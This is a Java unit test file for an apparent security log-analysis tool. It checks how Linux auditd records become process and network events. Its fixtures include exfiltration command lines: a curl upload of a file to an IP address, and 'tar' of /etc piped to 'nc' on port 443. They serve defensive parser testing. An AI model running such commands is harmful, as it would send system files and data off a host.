package dev.cronhound.formats.linux.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronhound.core.event.Event;
import dev.cronhound.core.event.NetworkConnection;
import dev.cronhound.core.event.ProcessStart;
import dev.cronhound.formats.AuditEventJson;
import dev.cronhound.formats.EventJson;
import dev.cronhound.formats.GoldenFileTest;
import dev.cronhound.formats.InputFormat;
import dev.cronhound.formats.ReadReport;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The mapping to cronhound events on {@code made/audit.log} (hand-made records of every mapped
 * case, see the README there), its syslog-forwarded twin, and goldens for every audit log here:
 * {@code X.golden.jsonl} (events as {@code convert --to events} prints them, no passwd file, plus
 * the read summary) and {@code made/audit.audit-events.golden.jsonl} ({@code convert --to jsonl}).
 * Regenerate with {@code -Dgolden.update=true} (see {@link GoldenFileTest}).
 */
class AuditMappingTest extends GoldenFileTest {

  private static final Path DIR = RESOURCES.resolve("linux/audit");

  static Stream<String> logs() throws IOException {
    try (Stream<Path> s = Files.walk(DIR)) {
      return s.filter(p -> p.toString().endsWith(".log")).map(Path::toString).sorted().toList().stream();
    }
  }

  @ParameterizedTest
  @MethodSource("logs")
  void golden(String log) throws IOException {
    assertGolden(goldenFor(Path.of(log)), render(List.of(log)));
  }

  @Test
  void auditEventsGolden() throws IOException {
    List<String> lines = new ArrayList<>();
    ReadReport report = new ReadReport();
    Path log = DIR.resolve("made/audit.log");
    try (InputStream in = Files.newInputStream(log)) {
      AuditReader.read(in, "audit.log", e -> lines.add(AuditEventJson.toJson(e, "audit.log")), report);
    }
    lines.add(summary(report));
    assertGolden(DIR.resolve("made/audit.audit-events.golden.jsonl"), lines);
  }

  @Test
  void mapsExecveConnectAndSendto() throws IOException {
    List<Event> events = read("made/audit.log", "audit.log");
    assertThat(events).hasSize(7);

    ProcessStart curl = (ProcessStart) events.get(1);
    assertThat(curl.tsMicros()).isEqualTo(1_700_000_000_123_000L);
    assertThat(curl.process().pid()).isEqualTo(2212);
    assertThat(curl.parent().pid()).isEqualTo(2211);
    assertThat(curl.image()).isEqualTo("/usr/bin/curl");
    assertThat(curl.commandLine()).isEqualTo("curl -s -T \"/tmp/db dup\" https://203.0.113.9/up");
    assertThat(curl.user()).isEqualTo("root");
    assertThat(curl.loginUser()).isEqualTo("alice");
    assertThat(curl.currentDirectory()).isEqualTo("/root");
    assertThat(curl.host()).isNull();
    assertThat(curl.origin().line()).isEqualTo(1);

    ProcessStart sh = (ProcessStart) events.get(0);
    assertThat(sh.commandLine()).isEqualTo("sh -c \"tar zcf - /etc/ | nc 198.51.100.7 443\"");
    assertThat(sh.user()).isEqualTo("postfix");
    assertThat(sh.loginUser()).as("auid unset").isNull();
    assertThat(sh.currentDirectory()).isEqualTo("/var/spool/my dir");

    NetworkConnection rclone = (NetworkConnection) events.get(2);
    assertThat(rclone.dstIp()).isEqualTo("2001:7f8::1");
    assertThat(rclone.dstPort()).isEqualTo(443);
    assertThat(rclone.outbound()).isTrue();
    assertThat(rclone.srcIp()).isNull();
    assertThat(rclone.srcPort()).isEqualTo(-1);
    assertThat(rclone.image()).isEqualTo("/usr/local/bin/rclone");
    assertThat(rclone.user()).isEqualTo("alice");

    NetworkConnection beacon = (NetworkConnection) events.get(3);
    assertThat(beacon.dstIp()).isEqualTo("198.51.100.10");
    assertThat(beacon.dstPort()).isEqualTo(53);
    assertThat(beacon.process().pid()).isEqualTo(777);

    ProcessStart python = (ProcessStart) events.get(4);
    assertThat(python.commandLine()).isEqualTo("python3 -c \"print(\\\"hello world\\\")\"");

    NetworkConnection web = (NetworkConnection) events.get(5);
    assertThat(web.host()).isEqualTo("web1");
    assertThat(web.dstIp()).isEqualTo("203.0.113.11");
    ProcessStart gzip = (ProcessStart) events.get(6);
    assertThat(gzip.host()).isEqualTo("web1");
    assertThat(gzip.commandLine()).isEqualTo("gzip -9");
  }

  @Test
  void syslogForwardedRecordsGiveTheSameEvents() throws IOException {
    List<String> plain = json(read("made/audit.log", "x"));
    List<String> forwarded = json(read("made/syslog.log", "x"));
    assertThat(forwarded).isEqualTo(plain);
    assertThat(dev.cronhound.formats.ReadCapture.of(List.of(DIR.resolve("made/syslog.log").toString())).events())
        .hasSize(7);
  }

  @Test
  void sniffsEveryForm() throws IOException {
    for (String s :
        List.of(
            "type=SYSCALL msg=audit(1700000000.123:4567): arch=c000003e\n",
            "node=web1 type=EOE msg=audit(1700000000.123:4567): \n",
            "Jan  5 02:15:01 host audispd: type=SYSCALL msg=audit(1700000000.123:4567): a=b\n",
            "\n\ntype=PROCTITLE msg=audit(1700000000.123:4567): proctitle=ZZ\n")) {
      byte[] b = s.getBytes(java.nio.charset.StandardCharsets.UTF_8);
      assertThat(AuditSniffer.sniff(b, b.length)).as(s).contains(InputFormat.AUDITD);
    }
    for (String s : List.of("#separator \\x09\n", "{\"ts\":1}\n", "Jan  5 02:15:01 host CRON[1]: (root) CMD (x)\n")) {
      byte[] b = s.getBytes(java.nio.charset.StandardCharsets.UTF_8);
      assertThat(AuditSniffer.sniff(b, b.length)).as(s).isEmpty();
    }
  }

  private static List<String> json(List<Event> events) {
    return events.stream().map(EventJson::toJson).toList();
  }

  private static List<Event> read(String log, String name) throws IOException {
    List<Event> events = new ArrayList<>();
    Passwd passwd = Passwd.read(DIR.resolve("passwd"));
    try (InputStream in = Files.newInputStream(DIR.resolve(log))) {
      AuditReader.read(in, name, new AuditEventMapper(events::add, passwd, name), new ReadReport());
    }
    return events;
  }
}
